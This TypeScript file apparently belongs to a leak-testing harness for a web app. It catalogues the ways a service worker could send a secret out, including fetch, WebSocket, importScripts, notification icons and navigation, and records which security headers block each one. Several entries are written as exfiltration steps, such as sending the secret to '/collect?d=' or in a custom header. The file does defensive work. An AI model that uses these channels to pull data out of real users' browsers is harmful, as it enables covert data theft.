import type { OutsideChannel } from '../outside-channel.ts';

const onlyGuard = 'Only the guard itself could do it, and no page can make it.';
const refused = ['content-security-policy', 'connection-allowlist'] as const;

type Short = Omit<OutsideChannel, 'context' | 'whyOutside' | 'walls'> & Partial<OutsideChannel>;

/** What the guard, the service worker, could do. Its own headers stop it; ours never tries. */
export const outsideGuardChannels: readonly OutsideChannel[] = asGuard([
  { key: 'guard-fetch', words: 'ask for an address', code: "fetch('$URL')", facts: ['in SW: fetch'] },
  {
    key: 'guard-fetch-no-cors',
    words: 'ask for an address without reading the answer',
    code: "fetch('$URL', { mode: 'no-cors' })",
    facts: ['in SW: nocors'],
  },
  {
    key: 'guard-cache-add',
    words: 'fetch an address into a cache',
    code: "cache.add('$URL')",
    facts: ['in SW: cacheadd'],
  },
  {
    key: 'guard-import-scripts',
    words: 'load a stranger’s script',
    code: "importScripts('$URL')",
    facts: ['in SW: importScripts'],
    walls: ['platform', ...refused],
    noEvidence: 'A guard loads scripts only while it is being installed, so nothing arrives even without walls.',
  },
  {
    key: 'guard-web-socket',
    words: 'open a line in both directions',
    code: "new WebSocket('$WS', [secret])",
    facts: ['in SW: ws'],
  },
  {
    key: 'guard-web-transport',
    words: 'open a fast line of packets',
    code: "new WebTransport('$HTTPS').ready",
    facts: ['in SW: wt'],
  },
  {
    key: 'guard-own-fetch',
    words: 'send the secret to this app’s own server',
    code: "fetch('$URL')",
    isOwnSite: true,
    facts: ['in SW: own fetch /collect?d='],
  },
  {
    key: 'guard-own-file',
    words: 'ask this app’s own server for one of its files anew, with the secret in a header',
    code: "fetch('/assets/wllama.wasm', { cache: 'no-store', headers: { 'x-text': secret } })",
    isOwnSite: true,
    facts: [],
  },
  {
    key: 'guard-notification',
    words: 'show a notice with a stranger’s picture',
    code: "registration.showNotification('leak', { icon: '$URL' })",
    facts: ['in SW: notif'],
  },
  {
    key: 'guard-window',
    words: 'open a window',
    code: "clients.openWindow('$URL')",
    facts: ['in SW: openWindow'],
    walls: ['platform'],
    noEvidence: 'It may open a window only after a click on a notice, so nothing arrives even without walls.',
  },
  {
    key: 'guard-navigate',
    words: 'send the page elsewhere',
    code: "client.navigate('$URL')",
    facts: ['in SW: clientNavigate'],
    walls: ['connection-allowlist'],
    freshPage: true,
  },
]);

function asGuard(list: readonly Short[]): readonly OutsideChannel[] {
  return list.map((channel) => ({ context: 'guard', whyOutside: onlyGuard, walls: refused, ...channel }));
}
